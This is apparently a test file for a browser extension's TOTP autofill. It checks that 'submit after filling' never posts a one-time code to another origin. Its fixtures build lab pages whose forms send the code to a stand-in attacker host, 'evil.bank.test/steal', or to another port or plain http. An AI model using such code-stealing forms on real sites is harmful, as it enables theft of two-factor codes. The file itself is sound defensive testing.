// Hole 7: "Submit after filling" submits only forms that post to the page's own origin; a form aimed elsewhere keeps the code.
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import type { Page } from 'puppeteer-core';
import { askContentScript, launchWithExtension, type Harness } from '../harness.ts';
import { bindingFor, callFromExtension, forgetFilledSteps, vaultWith, waitForCode } from '../autofill-setup.ts';
import { totp } from '../popup-driver.ts';
import { startAttackSites, type AttackSites, type LabRequest } from './sites.ts';

interface FormShape { action?: string; method?: string; formaction?: string; inDialog?: boolean }

/**
 * A bound page with one challenge form. The page records every submit event it sees (capture phase),
 * so a submission that a site handler might cancel still shows.
 */
function formPage({ action, method = 'post', formaction, inDialog }: FormShape): string {
  const attr = (name: string, value: string | undefined) => (value === undefined ? '' : ` ${name}="${value}"`);
  const form = `<form id="f" method="${method}"${attr('action', action)}>
  <input name="code" autocomplete="one-time-code" inputmode="numeric" maxlength="6">
  <button id="verify" type="submit"${attr('formaction', formaction)}>Verify</button>
</form>`;
  return `<!doctype html><title>Two-factor challenge</title>
<script>window.submits = []; document.addEventListener('submit', (e) => submits.push(e.target.id), true);</script>
${inDialog ? `<dialog open>${form}</dialog>` : form}`;
}

/** Polls the lab's log until `find` returns a request (the submission's navigation is the browser's, not ours). */
async function waitForHit(find: () => LabRequest | undefined): Promise<LabRequest> {
  for (let i = 0; i < 300; i++) {
    const hit = find();
    if (hit) return hit;
    await new Promise((r) => setTimeout(r, 50));
  }
  throw new Error('the expected request never arrived');
}

describe('"Submit after filling" never submits a form to another origin', () => {
  let sites: AttackSites;
  let h: Harness;
  let bank: string;
  const received = (req: LabRequest) => `<!doctype html><p id="received">${req.form.get('code') ?? ''}</p>`;

  beforeAll(async () => {
    sites = await startAttackSites();
    bank = sites.origin('https://bank.test');
    const evilSteal = sites.url('https://evil.bank.test', '/steal');
    sites.page('*', '/steal', received);
    sites.page('*', '/verify', received);
    // Attacks: the form (or its default button) posts the code to another origin; or it is a dialog form.
    sites.page('https://bank.test', '/to-other-host', formPage({ action: evilSteal }));
    sites.page('https://bank.test', '/to-other-port', formPage({ action: sites.url('https://bank.test', '/steal', 'alt') }));
    sites.page('https://bank.test', '/to-http', formPage({ action: sites.url('http://bank.test', '/steal') }));
    sites.page('https://bank.test', '/button-to-other-host', formPage({ action: '/verify', formaction: evilSteal }));
    sites.page('https://bank.test', '/dialog', formPage({ method: 'dialog', inDialog: true }));
    // Legitimate: a same-origin action, and a form whose default button overrides a foreign action with its own.
    sites.page('https://bank.test', '/same-origin', formPage({ action: '/verify' }));
    sites.page('https://bank.test', '/button-to-same-origin', formPage({ action: evilSteal, formaction: '/verify' }));

    h = await launchWithExtension({ extraArgs: sites.chromiumArgs });
    const { ext } = await vaultWith(h, totp('Bank', 'alice', 'JBSWY3DPEHPK3PXP'), [bindingFor(bank)]);
    await callFromExtension(ext, 'updateSettings', { patch: { submitAfterFill: true } });
  });
  // Each test fills the same account on the same origin within seconds: as if a 30 s step had passed in between.
  beforeEach(async () => { await forgetFilledSteps(h); });
  afterAll(async () => {
    await h?.close();
    await sites?.close();
  });

  for (const path of ['/to-other-host', '/to-other-port', '/to-http', '/button-to-other-host', '/dialog']) {
    it(`fills but does not submit ${path}`, async () => {
      const url = `${bank}${path}`;
      const before = sites.allHits().length;
      const page = await h.newPage(url);
      await waitForCode(page, 'input[name="code"]');
      // The content script submits right after it fills; once it has answered a later message, that moment is past.
      await askContentScript(await h.worker(), page, 'contentPing');
      expect(await page.evaluate(() => (window as unknown as { submits: string[] }).submits)).toEqual([]);
      expect(page.url()).toBe(url);
      // Keyfob's clock check may ask the page's own address for its Date header (a HEAD, no body): not a submission.
      const clockCheck = (r: LabRequest) => r.method === 'HEAD' && r.origin === bank && r.path === path && r.body === '';
      const sent = sites.allHits().slice(before)
        .filter((r) => (r.method !== 'GET' && !clockCheck(r)) || r.path === '/steal' || r.path === '/verify');
      expect(sent).toEqual([]);
      expect(sites.hits('evil.bank.test')).toEqual([]);
      await page.close();
    });
  }

  for (const path of ['/same-origin', '/button-to-same-origin']) {
    it(`fills and submits ${path} to its own origin`, async () => {
      const before = sites.allHits().length;
      const page: Page = await h.newPage(`${bank}${path}`);
      const post = await waitForHit(() => sites.hits(bank, '/verify').find((r) => r.method === 'POST' && r.headers.referer === `${bank}${path}`));
      expect(post.form.get('code')).toMatch(/^\d{6}$/);
      await page.waitForSelector('#received');
      expect(page.url()).toBe(`${bank}/verify`);
      expect(sites.allHits().slice(before).filter((r) => r.host === 'evil.bank.test' || r.path === '/steal')).toEqual([]);
      await page.close();
    });
  }
});
